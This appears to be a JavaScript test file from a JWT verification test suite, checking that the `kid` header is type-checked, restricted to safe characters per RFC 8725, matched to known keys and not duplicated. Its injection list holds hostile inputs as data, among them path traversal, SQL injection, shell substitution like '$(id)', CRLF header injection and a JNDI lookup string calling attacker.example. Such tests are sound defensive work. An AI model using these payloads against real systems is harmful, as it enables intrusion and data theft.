import { must, policy } from "../case.mjs";
import { kidOf, token } from "../forge.mjs";

const STRING = "RFC 7515 §4.1.4: `kid` is a string";
const LETTERS = "RFC 8725 §3.10: a `kid` must be harmless where it is looked up; 1 to 128 letters, digits and `._~@:+/=-`, without `..`";
const UNKNOWN = "a key with a `kid` is for tokens with that one";

const injections = ["../../../../dev/null", "/proc/../dev/null", "..", "a..b", "' OR '1'='1", "x' UNION SELECT 'key' --", "\"; DROP TABLE jwks; --", "$(id)", "`id`", "|id", ";id", "a b", " ", "a\nb", "a\r\nX-Header: 1", "a\0", "\0", "a\tb", "a\u007f", "%00", "a%2e%2e%2fb", "a\\b", "C:\\keys\\1", "a?b", "a#b", "a&b", "<script>", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "a*", "a,b", "a\"b", "[1]", "k\u00e9y", "\u043a\u043b\u044e\u0447", "\u{1f511}", "\u200b", "\u202ekey", "k".repeat(129), "k".repeat(500), ""];
const unknown = ["other", "EDDSA-KEY", "eddsa-key=", "eddsa-ke", "eddsa-key2", "eddsa-key/", "/eddsa-key", "file:///etc/passwd", "http://attacker.example/key", "0", "null", "undefined", "__proto__", "constructor", "toString", "true", "k".repeat(128), "rs256-key", "1"];

const shown = (kid) => (kid.length > 60 ? `of ${kid.length} letters` : JSON.stringify(kid));

export const title = "the key that a token names";
export const cases = [
  ...[0, 1, 1.5, true, false, null, [], {}, [kidOf("EdDSA")], { kid: kidOf("EdDSA") }].flatMap((kid) => [
    must(`\`kid\` is ${JSON.stringify(kid)}`, "kid-malformed", STRING, token({ header: { kid } })),
    must(`\`kid\` is ${JSON.stringify(kid)}, for a public key`, "kid-malformed", STRING, token({ alg: "EdDSA", header: { kid } }), "EdDSA"),
  ]),
  ...injections.flatMap((kid) => [
    policy(`\`kid\` is ${shown(kid)}, where the key has none`, "kid-malformed", LETTERS, token({ header: { kid } })),
    must(`\`kid\` is ${shown(kid)}, and no key's`, "kid-malformed", LETTERS, token({ alg: "EdDSA", header: { kid } }), "EdDSA"),
  ]),
  ...unknown.map((kid) => must(`\`kid\` is ${shown(kid)}, which no key has`, "kid-unknown", UNKNOWN, token({ alg: "EdDSA", header: { kid } }), "EdDSA")),
  policy("no `kid`, where the only key has one", "kid-missing", `RFC 7515 §4.1.4 leaves the choice; ${UNKNOWN}`, token({ alg: "EdDSA", header: { kid: undefined } }), "EdDSA"),
  policy("no `kid`, where the only key of its algorithm has one", "kid-missing", `RFC 7515 §4.1.4 leaves the choice; ${UNKNOWN}`, token({ alg: "ES256", header: { kid: undefined } }), "all public keys"),
  policy("no `kid`, in a set of secrets", "kid-missing", `RFC 7515 §4.1.4 leaves the choice; ${UNKNOWN}`, token({ header: { kid: undefined } }), "secrets in a set"),
  must("an unknown `kid`, in a set of many", "kid-unknown", UNKNOWN, token({ alg: "ES256", header: { kid: "other" } }), "all public keys"),
  must("a `kid` in the claims", "kid-unknown", UNKNOWN, token({ alg: "EdDSA", header: { kid: "other" }, claims: { kid: kidOf("EdDSA") } }), "EdDSA"),
  must("the `kid` of one key, signed with the one that has none", "signature-invalid", UNKNOWN, token({ alg: "EdDSA", key: "ed25519-other", header: { kid: "named" } }), "one key with a kid, one without"),
  policy("no `kid`, signed with the key that has one", "signature-invalid", `RFC 7515 §4.1.4 leaves the choice; ${UNKNOWN}`, token({ alg: "EdDSA", header: { kid: undefined } }), "one key with a kid, one without"),
  must("no `kid`, signed with none of two keys", "signature-invalid", "RFC 7515 §5.2", token({ alg: "ES256", key: "p256-other", header: { kid: undefined } }), "keys without kid"),
  must("a `kid`, signed with none of two keys that have none", "signature-invalid", "RFC 7515 §5.2", token({ alg: "ES256", key: "p256-other" }), "keys without kid"),
  must("`kid` twice", "header-duplicate-member", "RFC 7515 §4: the names of a header are unique; who takes the last takes another key", token({ alg: "EdDSA", headerText: `{"alg":"EdDSA","kid":"${kidOf("EdDSA")}","kid":"other"}` }), "EdDSA"),
];
